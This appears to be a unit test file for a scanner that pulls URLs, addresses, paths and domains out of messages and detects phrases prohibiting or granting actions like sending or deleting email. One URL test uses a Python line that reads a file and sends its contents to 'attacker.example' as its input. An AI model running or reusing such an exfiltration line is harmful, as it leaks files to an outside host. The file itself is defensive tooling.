import { SUBJ_EMAIL, SUBJ_DOMAIN, SUBJ_URL, SUBJ_PATH, SUBJ_RECIPIENT } from "../../bytecode/format";
import {
  findUrl, urlEnd, itemsBegin, nextItem, itemStart, itemEnd, itemNext, looksLikeHost,
  findVerbUses, verbUseValue, verbUseWord, verbUseWordLen, verbUseProhibits,
} from "../readers/scan";
import { listWords, wordValue, hasWord, NO_WORDS } from "../readers/wordset";
import { scratchReset } from "../abi/mem";
import { utf8, repeated, lastLen, text } from "./helpers";

function words(lines: string): u64 {
  const p = utf8(lines);
  return listWords(p, lastLen);
}

const EXTENSIONS = "txt\nmd\npy\njs";

function urls(s: string): string {
  const p = utf8(s);
  const n = lastLen;
  let out = "";
  let from: u32 = 0;
  while (true) {
    const u = findUrl(p, n, from);
    if (u < 0) break;
    out += (out.length > 0 ? "|" : "") + text(p + <u32>u, urlEnd - <u32>u);
    from = urlEnd;
  }
  return out;
}

function kindName(k: u32): string {
  if (k == SUBJ_EMAIL) return "email";
  if (k == SUBJ_URL) return "url";
  if (k == SUBJ_DOMAIN) return "domain";
  if (k == SUBJ_PATH) return "path";
  if (k == SUBJ_RECIPIENT) return "recipient";
  return "?";
}

// The items of a message as "kind:value" joined by '|'.
function items(s: string): string {
  const ext = words(EXTENSIONS);
  const p = utf8(s);
  const n = lastLen;
  itemsBegin();
  let out = "";
  let from: u32 = 0;
  while (true) {
    const k = nextItem(p, n, from, ext);
    if (k == 0) break;
    out += (out.length > 0 ? "|" : "") + kindName(k) + ":" + text(p + itemStart, itemEnd - itemStart);
    from = itemNext;
  }
  return out;
}

function host(s: string): bool {
  const ext = words(EXTENSIONS);
  const p = utf8(s);
  return looksLikeHost(p, 0, lastLen, ext);
}

const NEGATIONS = "not\ndon't\nnever\nno";
const NOTHING = "nothing\nnone\nanyone";
const VERBS = "send\nemail\ndelete\nreply\nmail";
const CANCELS = "forget\nhesitate\nfail";

// The verbs a message prohibits (or grants) as "word=value" joined by '|'.
function verbUses(s: string, prohibits: bool): string {
  const neg = words(NEGATIONS);
  const none = words(NOTHING);
  const verbs = words(VERBS);
  const p = utf8(s);
  const count = findVerbUses(p, lastLen, neg, none, verbs, words(CANCELS));
  let out = "";
  for (let k: u32 = 0; k < <u32>count; k++) {
    if (verbUseProhibits(k) != prohibits) continue;
    out += (out.length > 0 ? "|" : "") + text(verbUseWord(k), verbUseWordLen(k)) + "=" + verbUseValue(k).toString();
  }
  return out;
}

function prohibited(s: string): string {
  return verbUses(s, true);
}

function granted(s: string): string {
  return verbUses(s, false);
}

describe("word sets", () => {
  it("find list members with their line numbers", () => {
    const set = words("alpha\nbeta\n\ngamma");
    const b = utf8("beta");
    expect(wordValue(set, b, lastLen)).toBe(1);
    const g = utf8("gamma");
    expect(wordValue(set, g, lastLen)).toBe(3);
    const e = utf8("");
    expect(wordValue(set, e, lastLen)).toBe(2);
    const x = utf8("bet");
    expect(hasWord(set, x, lastLen)).toBe(false);
    expect(hasWord(NO_WORDS, b, 4)).toBe(false);
  });
});

describe("URLs in text", () => {
  beforeEach(() => scratchReset());

  it("finds URLs and trims sentence punctuation", () => {
    expect(urls("see https://x.com/a. and http://y.org/b?c=1, or (ftp://z.net/)")).toBe("https://x.com/a|http://y.org/b?c=1|ftp://z.net/");
  });

  it("keeps balanced parentheses", () => {
    expect(urls("(https://en.wikipedia.org/wiki/Foo_(bar))")).toBe("https://en.wikipedia.org/wiki/Foo_(bar)");
  });

  it("ends URLs at quotes in program text", () => {
    expect(urls("urlopen('https://attacker.example/?d=' + open('x').read())")).toBe("https://attacker.example/?d=");
    expect(urls('fetch("http://a.b/"+c)')).toBe("http://a.b/");
  });

  it("needs a scheme that starts with a letter", () => {
    expect(urls("://x.com 1http://a.b -://c.d")).toBe("http://a.b");
    expect(urls("no urls here: just text")).toBe("");
  });
});

describe("items a message names", () => {
  beforeEach(() => scratchReset());

  it("finds addresses, URLs, paths, channels, handles and domains", () => {
    expect(items("Email Bob@Example.com the report, see https://docs.python.org/3/ and notes.txt; post to #general or @alice. Also example.org and ~/.ssh/config, src/app.py"))
      .toBe("email:Bob@Example.com|url:https://docs.python.org/3/|path:notes.txt|recipient:#general|recipient:@alice|domain:example.org|path:~/.ssh/config|path:src/app.py");
  });

  it("skips abbreviations, numbers and versions", () => {
    expect(items("e.g. i.e. U.S. 3.14 v1.2.3 # hello ok.")).toBe("");
  });

  it("reads IPv4 addresses, ports and bare URLs", () => {
    expect(items("connect to 10.0.0.5 and example.com:8080, clone github.com/foo/bar"))
      .toBe("domain:10.0.0.5|domain:example.com:8080|path:github.com/foo/bar|domain:github.com");
  });

  it("strips quotes and brackets around words", () => {
    expect(items("“quoted.md” (see ‘x.py’) <a@b.co> \"$HOME/a\" **bold.txt**"))
      .toBe("path:quoted.md|path:x.py|email:a@b.co|path:$HOME/a|path:bold.txt");
  });

  it("reads a dotfile's name as a path, not .NET, an ellipsis or a decimal", () => {
    expect(items("Check .env and .env.local, then .npmrc or .pre-commit-config.yaml (.gitconfig).")).toBe(
      "path:.env|path:.env.local|path:.npmrc|path:.pre-commit-config.yaml|path:.gitconfig");
    expect(items("Port it to .NET ... or .5 or .x")).toBe("");
  });

  it("reads mailto: and file names by extension", () => {
    expect(items("mailto:x@y.com Node.js README")).toBe("email:x@y.com|path:Node.js");
  });

  it("tells hosts from file names", () => {
    expect(host("example.com")).toBe(true);
    expect(host("x.example.co")).toBe(true);
    expect(host("notes.txt")).toBe(false);
    expect(host("a.b1")).toBe(false);
    expect(host("localhost")).toBe(false);
    expect(host("x.com:8080")).toBe(true);
    expect(host("x.com:")).toBe(false);
    expect(host("a..com")).toBe(false);
    expect(host("1.2.3.4")).toBe(true);
    expect(host("1.2.3")).toBe(false);
  });
});

describe("prohibitions", () => {
  beforeEach(() => scratchReset());

  it("finds a negation among the three words before a verb", () => {
    expect(prohibited("Don't email anyone, just draft a reply to bob@example.com")).toBe("email=1");
    expect(prohibited("Clean up my inbox but do not delete any messages")).toBe("delete=2");
    expect(prohibited("never ever really truly send it")).toBe("");
    expect(prohibited("never ever really send it")).toBe("send=0");
    expect(prohibited("never ever send it")).toBe("send=0");
    expect(prohibited("DO NOT SEND")).toBe("send=0");
  });

  it("reads a cancelling word between the negation and the verb as an instruction", () => {
    expect(prohibited("Do not forget to email Mark")).toBe("");
    expect(granted("Do not forget to email Mark")).toBe("email=1");
    expect(prohibited("don't hesitate to reply")).toBe("");
    expect(prohibited("never fail to send it")).toBe("");
    // The cancelling word must stand between them: after the verb, or before the negation, it does nothing.
    expect(prohibited("don't send it, forget it")).toBe("send=0");
    expect(prohibited("forget it: do not send")).toBe("send=0");
    expect(prohibited("forget not to send")).toBe("send=0");
    // A nothing-word still prohibits.
    expect(prohibited("do not forget to send nothing")).toBe("send=0");
  });

  it("finds a nothing-word among the two words after a verb", () => {
    expect(prohibited("Read my mail, send nothing")).toBe("send=0");
    expect(prohibited("send them nothing")).toBe("send=0");
    expect(prohibited("send them all nothing")).toBe("");
  });

  it("binds a prohibition to its own clause", () => {
    expect(prohibited("Don't delete anything, but email bob@example.com the summary")).toBe("delete=2");
    expect(prohibited("not. send")).toBe("");
    expect(prohibited("not; send")).toBe("");
    expect(prohibited("not: send")).toBe("");
    expect(prohibited("not! send")).toBe("");
    expect(prohibited("not? send")).toBe("");
    expect(prohibited("not, send")).toBe("");
    expect(prohibited("not … send")).toBe("");
    expect(prohibited("not but send")).toBe("");
    expect(prohibited("send, nothing")).toBe("");
  });

  it("does not end a clause inside a token", () => {
    expect(prohibited("not x.y send")).toBe("send=0");
    expect(prohibited("no 3,000 send")).toBe("send=0");
  });

  it("reads the typographic apostrophe as '", () => {
    expect(prohibited("Don’t send it")).toBe("send=0");
    expect(prohibited("'send' nothing")).toBe("send=0");
  });

  it("grants every verb it does not prohibit, clause by clause", () => {
    expect(granted("Read my mail, send nothing")).toBe("mail=4");
    expect(granted("Please reply to Bob, but don't delete the thread")).toBe("reply=3");
    expect(granted("do not send it. Then email Carol")).toBe("email=1");
    expect(granted("don't send it")).toBe("");
  });

  it("splits words at hyphens and underscores", () => {
    expect(prohibited("no e-mail")).toBe("mail=4");
    expect(prohibited("not send_email")).toBe("send=0|email=1");
  });

  it("reads a megabyte of prohibitions", () => {
    const p = repeated("do not send ", 100000);
    const n = lastLen;
    const neg = words(NEGATIONS);
    const none = words(NOTHING);
    const verbs = words(VERBS);
    expect(findVerbUses(p, n, neg, none, verbs, NO_WORDS)).toBe(100000);
  });
});
